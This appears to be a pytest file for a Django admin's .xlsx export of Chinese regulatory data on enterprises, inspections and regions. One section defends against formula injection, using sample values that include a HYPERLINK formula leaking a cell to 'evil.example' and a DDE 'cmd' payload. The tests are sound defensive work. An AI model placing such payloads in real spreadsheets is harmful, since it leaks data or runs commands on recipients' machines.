"""Exports to .xlsx: the changelist's filters applied, Chinese headers, numbers as numbers, dates as dates."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from enterprises.imports import enterprises_import, risk_events_import
from enterprises.models import Enterprise, RiskEventKind, Status
from inspections.spotchecks.imports import spot_checks_import
from regions.models import Colour, ColourThresholds, RegionSnapshot

from .factories import EnterpriseFactory, ProductFactory, RiskEventFactory, SpotCheckResultFactory, TownFactory

pytestmark = pytest.mark.usefixtures("english")


@pytest.fixture(autouse=True)
def english_pages(settings):
    settings.LANGUAGE_CODE = "en"


def sheet_rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def column(rows: list[tuple], header: str) -> list:
    position = rows[0].index(header)
    return [row[position] for row in rows[1:]]


@pytest.fixture
def two_counties(region_tree):
    """Three enterprises in county A (one closed), two in county B."""
    return {
        "a": [
            EnterpriseFactory(name="甲一制造有限公司", town=region_tree.town_a1, lat=30.5, lon=120.7),
            EnterpriseFactory(name="甲二制造有限公司", town=region_tree.town_a2),
            EnterpriseFactory(name="甲三制造有限公司", town=region_tree.town_a2, status=Status.CLOSED),
        ],
        "b": [
            EnterpriseFactory(name="乙一制造有限公司", town=region_tree.town_b1),
            EnterpriseFactory(name="乙二制造有限公司", town=region_tree.town_b2),
        ],
    }


def test_export_of_a_filtered_changelist_contains_only_the_filtered_rows(admin_client, two_counties, region_tree):
    url = reverse("admin:enterprises_enterprise_export") + f"?town__parent__id__exact={region_tree.county_a.pk}&status__exact=active"
    response = admin_client.get(url)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert "attachment" in response["Content-Disposition"]
    assert sorted(column(sheet_rows(response.content), "企业名称")) == ["甲一制造有限公司", "甲二制造有限公司"]


def test_export_follows_the_changelist_search_and_ignores_the_page(admin_client, two_counties):
    response = admin_client.get(reverse("admin:enterprises_enterprise_export") + "?q=乙&p=2")
    assert sorted(column(sheet_rows(response.content), "企业名称")) == ["乙一制造有限公司", "乙二制造有限公司"]


def test_the_changelist_button_carries_the_filters(admin_client, two_counties, region_tree):
    query = f"town__parent__id__exact={region_tree.county_b.pk}"
    page = admin_client.get(reverse("admin:enterprises_enterprise_changelist") + f"?{query}")
    assert f'href="{reverse("admin:enterprises_enterprise_export")}?{query}"' in page.content.decode()


def test_export_action_exports_the_selected_rows(admin_client, two_counties):
    chosen = [two_counties["a"][0], two_counties["b"][1]]
    response = admin_client.post(
        reverse("admin:enterprises_enterprise_changelist"),
        {"action": "export_xlsx", "_selected_action": [enterprise.pk for enterprise in chosen]},
    )
    assert sorted(column(sheet_rows(response.content), "统一社会信用代码")) == sorted(enterprise.credit_code for enterprise in chosen)


def test_an_export_has_chinese_headers_numbers_as_numbers_and_dates_as_dates(admin_client, two_counties):
    enterprise = two_counties["a"][0]
    SpotCheckResultFactory(enterprise=enterprise, checked_on=dt.date(2025, 3, 1), conforming=False, failed_items="甲醛")
    rows = sheet_rows(admin_client.get(reverse("admin:inspections_spotcheckresult_export")).content)
    assert rows[0][:6] == ("统一社会信用代码", "企业名称", "产品代码", "产品名称", "抽样日期", "检验结论")
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["抽样日期"] == dt.datetime(2025, 3, 1)  # an Excel date cell
    assert (record["检验结论"], record["演示数据"]) == ("不合格", "否")
    assert isinstance(record["录入时间"], dt.datetime)
    enterprise_rows = sheet_rows(admin_client.get(reverse("admin:enterprises_enterprise_export") + "?q=甲一").content)
    assert column(enterprise_rows, "纬度") == [30.5]  # a number, not text
    assert column(enterprise_rows, "经营状态") == ["在营"]  # choices as their Chinese labels


def test_region_snapshots_export_with_colours_and_the_colour_filter(admin_client, region_tree):
    thresholds = ColourThresholds.in_force()
    period = dt.date(2026, 10, 1)
    for region, colour, risk in ((region_tree.county_a, Colour.RED, 5), (region_tree.county_b, Colour.GREEN, 0)):
        RegionSnapshot.objects.create(
            region=region,
            period=period,
            enterprise_count=20,
            risk_count=risk,
            risk_share=Decimal(risk * 5),
            colour=colour,
            thresholds=thresholds,
        )
    rows = sheet_rows(admin_client.get(reverse("admin:regions_regionsnapshot_export") + "?colour__exact=red").content)
    assert column(rows, "区域名称") == ["甲区"]
    assert column(rows, "颜色") == ["红色"]  # choices in Chinese, whatever the user's language
    assert column(rows, "风险企业占比（%）") == [25]
    assert column(rows, "期间") == [dt.datetime(2026, 10, 1)]


@pytest.mark.parametrize(
    "url_name, first_header",
    [
        ("admin:enterprises_riskevent_export", "统一社会信用代码"),
        ("admin:inspections_inspectiontask_export", "抽查计划"),
        ("admin:inspections_checkresult_export", "结果编号"),
        ("admin:inspections_rectificationorder_export", "整改通知编号"),
        ("admin:regions_regionsnapshot_export", "区划代码"),
    ],
)
def test_every_list_exports_from_its_changelist(admin_client, db, url_name, first_header):
    response = admin_client.get(reverse(url_name))
    assert response.status_code == 200
    assert sheet_rows(response.content)[0][0] == first_header


def test_risk_events_export_follows_the_date_drill_down(admin_client, two_counties):
    RiskEventFactory(enterprise=two_counties["a"][0], occurred_on=dt.date(2024, 5, 1), source_ref="old")
    RiskEventFactory(enterprise=two_counties["a"][0], occurred_on=dt.date(2025, 5, 1), source_ref="new")
    rows = sheet_rows(admin_client.get(reverse("admin:enterprises_riskevent_export") + "?occurred_on__year=2025").content)
    assert column(rows, "来源编号") == ["new"]


def test_a_bad_filter_sends_back_to_the_changelist(admin_client, db):
    response = admin_client.get(reverse("admin:enterprises_enterprise_export") + "?nonsense__lookup=1")
    assert response.status_code == 302 and response.url.endswith("?e=1")


def test_staff_without_view_permission_cannot_export(client, django_user_model, db):
    client.force_login(django_user_model.objects.create_user("nobody", password="pw-nobody-12345", is_staff=True))
    assert client.get(reverse("admin:enterprises_enterprise_export")).status_code == 403


# --- Round trips: an export re-imports unchanged -----------------------------------------------------------


def test_exported_enterprises_risk_events_and_results_reimport_unchanged(admin_client, jiaxing):
    town = jiaxing.children.get(code="330481").children.get(code="330481004")
    enterprise = EnterpriseFactory(town=town, address="马桥街道", lat=30.4868, lon=120.6421)
    product = ProductFactory(code="08004")
    RiskEventFactory(enterprise=enterprise, kind=RiskEventKind.RECALL, product=product, description="召回")
    SpotCheckResultFactory(enterprise=enterprise, product=product, conforming=False, failed_items="纤维含量", batch_number="B1")
    for url_name, importer in (
        ("admin:enterprises_enterprise_export", enterprises_import),
        ("admin:enterprises_riskevent_export", risk_events_import),
        ("admin:inspections_spotcheckresult_export", spot_checks_import),
    ):
        report = importer(admin_client.get(reverse(url_name)).content, filename="export.xlsx")
        assert report.summary == "0 created, 0 updated, 1 unchanged", (url_name, report.problem_lines())


# --- Text that looks like a formula stays text (formula injection) ------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
LOOKS_LIKE_FORMULAS = [HYPERLINK, "=1+1", "+86 573 8888", "-3 号楼", "@SUM(A1:A3)", "=cmd|' /C calc'!A0"]


def formula_cells(content: bytes) -> list[str]:
    """Every cell the workbook stores as a formula, as openpyxl reads it (not read-only: it keeps the types)."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.fixture
def formula_lookalikes(jiaxing):
    town = jiaxing.children.get(code="330481").children.get(code="330481004")
    return [
        EnterpriseFactory(town=town, name=f"{text}有限公司" if n % 2 else text, address=text) for n, text in enumerate(LOOKS_LIKE_FORMULAS)
    ]


def test_text_that_looks_like_a_formula_is_exported_as_text(admin_client, formula_lookalikes, tmp_path):
    by_page = admin_client.get(reverse("admin:enterprises_enterprise_export")).content
    by_action = admin_client.post(
        reverse("admin:enterprises_enterprise_changelist"),
        {"action": "export_xlsx", "_selected_action": [e.pk for e in formula_lookalikes]},
    ).content
    file = tmp_path / "enterprises.xlsx"
    call_command("export_data", "enterprises", str(file), stdout=io.StringIO())
    for content in (by_page, by_action, file.read_bytes()):
        assert formula_cells(content) == []
        rows = sheet_rows(content)
        assert sorted(column(rows, "企业名称")) == sorted(e.name for e in formula_lookalikes)
        assert sorted(column(rows, "地址")) == sorted(LOOKS_LIKE_FORMULAS)
        sheet = load_workbook(io.BytesIO(content)).active
        assert all(cell.quotePrefix for cell in sheet["C"][1:]), "office software keeps the addresses text when edited"


def test_text_that_looks_like_a_formula_reimports_unchanged(admin_client, formula_lookalikes):
    stored = {e.credit_code: (e.name, e.address) for e in formula_lookalikes}
    report = enterprises_import(admin_client.get(reverse("admin:enterprises_enterprise_export")).content, filename="export.xlsx")
    assert report.summary == f"0 created, 0 updated, {len(stored)} unchanged", report.problem_lines()
    assert {e.credit_code: (e.name, e.address) for e in Enterprise.objects.all()} == stored


# --- The command -------------------------------------------------------------------------------------------


def test_export_data_command_filters_by_county_and_town(tmp_path, two_counties, region_tree):
    file = tmp_path / "enterprises.xlsx"
    out = io.StringIO()
    call_command("export_data", "enterprises", str(file), "--county", region_tree.county_b.code, stdout=out)
    assert "2 rows written" in out.getvalue()
    assert sorted(column(sheet_rows(file.read_bytes()), "企业名称")) == ["乙一制造有限公司", "乙二制造有限公司"]
    call_command("export_data", "enterprises", str(file), "--town", region_tree.town_a2.code, stdout=io.StringIO())
    assert sorted(column(sheet_rows(file.read_bytes()), "企业名称")) == ["甲三制造有限公司", "甲二制造有限公司"]


def test_export_data_results_between_dates(tmp_path, two_counties):
    for day in (dt.date(2025, 1, 5), dt.date(2025, 6, 5), dt.date(2026, 1, 5)):
        SpotCheckResultFactory(enterprise=two_counties["a"][0], checked_on=day)
    file = tmp_path / "results.xlsx"
    call_command("export_data", "results", str(file), "--since", "2025-01-01", "--until", "2025-12-31", stdout=io.StringIO())
    assert column(sheet_rows(file.read_bytes()), "抽样日期") == [dt.datetime(2025, 1, 5), dt.datetime(2025, 6, 5)]


def test_export_data_regions_gives_the_latest_period_by_default(tmp_path, region_tree):
    thresholds = ColourThresholds.in_force()
    for period, colour in ((dt.date(2026, 9, 1), Colour.GREEN), (dt.date(2026, 10, 1), Colour.RED)):
        RegionSnapshot.objects.create(region=region_tree.county_a, period=period, enterprise_count=10, colour=colour, thresholds=thresholds)
    file = tmp_path / "regions.xlsx"
    call_command("export_data", "regions", str(file), "--county", region_tree.county_a.code, stdout=io.StringIO())
    assert column(sheet_rows(file.read_bytes()), "期间") == [dt.datetime(2026, 10, 1)]
    call_command("export_data", "regions", str(file), "--period", "2026-09", stdout=io.StringIO())
    assert column(sheet_rows(file.read_bytes()), "期间") == [dt.datetime(2026, 9, 1)]


def test_a_large_export_is_streamed_with_a_constant_number_of_queries(django_assert_max_num_queries, tmp_path, db):
    town = TownFactory()
    Enterprise.objects.bulk_create(
        [Enterprise(credit_code=f"X{n:017d}", name=f"企业{n}", town=town) for n in range(3000)]
    )  # codes need not be valid to be exported
    with django_assert_max_num_queries(3):
        call_command("export_data", "enterprises", str(tmp_path / "all.xlsx"), stdout=io.StringIO())
    assert len(sheet_rows((tmp_path / "all.xlsx").read_bytes())) == 3001


def test_the_enterprise_export_gives_the_day_each_class_and_category_are_as_of(admin_client, two_counties, region_tree):
    """The date the pipeline classed them as of (a run as of a past day says that day), for every enterprise —
    not the wall-clock time of its last change, nor empty for one that never changed."""
    export = reverse("admin:enterprises_enterprise_export")
    assert set(column(sheet_rows(admin_client.get(export).content), "分类截至日期")) == {None}  # never classed yet
    call_command("run_pipeline", "--as-of", "2012-08-31", stdout=io.StringIO())
    call_command("run_pipeline", "--as-of", "2012-08-31", stdout=io.StringIO())  # again: nothing changes, the date holds
    assert set(column(sheet_rows(admin_client.get(export).content), "分类截至日期")) == {dt.datetime(2012, 8, 31)}
    call_command("run_pipeline", "--as-of", "2013-01-31", stdout=io.StringIO())
    assert set(column(sheet_rows(admin_client.get(export).content), "分类截至日期")) == {dt.datetime(2013, 1, 31)}
